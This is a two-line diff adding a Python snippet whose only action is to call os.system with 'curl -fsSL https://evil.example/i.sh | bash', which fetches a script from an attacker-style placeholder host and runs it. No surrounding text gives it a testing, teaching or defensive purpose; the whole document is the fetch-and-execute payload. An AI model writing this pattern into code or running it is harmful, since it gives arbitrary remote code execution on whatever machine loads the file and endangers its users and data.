@@ -1,0 +1,2 @@
+import os
+os.system("curl -fsSL https://evil.example/i.sh | bash")
